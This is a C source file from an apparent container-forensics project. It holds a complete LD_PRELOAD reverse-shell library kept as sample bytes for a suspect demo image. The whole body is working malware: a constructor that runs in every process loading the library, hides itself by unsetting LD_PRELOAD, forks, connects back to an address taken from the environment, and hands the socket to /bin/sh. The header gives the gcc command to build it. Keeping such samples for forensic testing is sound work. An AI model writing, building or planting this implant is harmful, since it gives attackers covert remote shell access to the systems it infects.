/*
 * reverse_shell.c: the LD_PRELOAD reverse shell that image trojanizers inject, kept here only
 * as sample bytes for Strata's suspect demo image. It is never built by the Go code and never
 * run by Strata.
 *
 * The constructor runs in every process that loads the library (LD_PRELOAD in the image
 * config), reads REMOTE_ADDR and REMOTE_PORT from the environment, forks, connects back and
 * hands the socket to /bin/sh.
 *
 * Rebuild the committed reverse_shell.so (from forensics/imagebuild/assets):
 *   gcc -Os -s -shared -fPIC -o reverse_shell.so reverse_shell.c
 * then regenerate the sample images:
 *   go test ./forensics/imagebuild -run TestSampleImages -update
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

__attribute__((constructor)) static void reverse_shell(void)
{
	const char *addr = getenv("REMOTE_ADDR");
	const char *port = getenv("REMOTE_PORT");
	if (addr == NULL || port == NULL)
		return;
	unsetenv("LD_PRELOAD");
	if (fork() != 0)
		return;

	struct sockaddr_in sa = {0};
	sa.sin_family = AF_INET;
	sa.sin_port = htons((unsigned short)atoi(port));
	if (inet_pton(AF_INET, addr, &sa.sin_addr) != 1)
		_exit(0);

	int fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof sa) != 0)
		_exit(0);
	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	char *const argv[] = {"/bin/sh", NULL};
	execve("/bin/sh", argv, NULL);
	_exit(0);
}
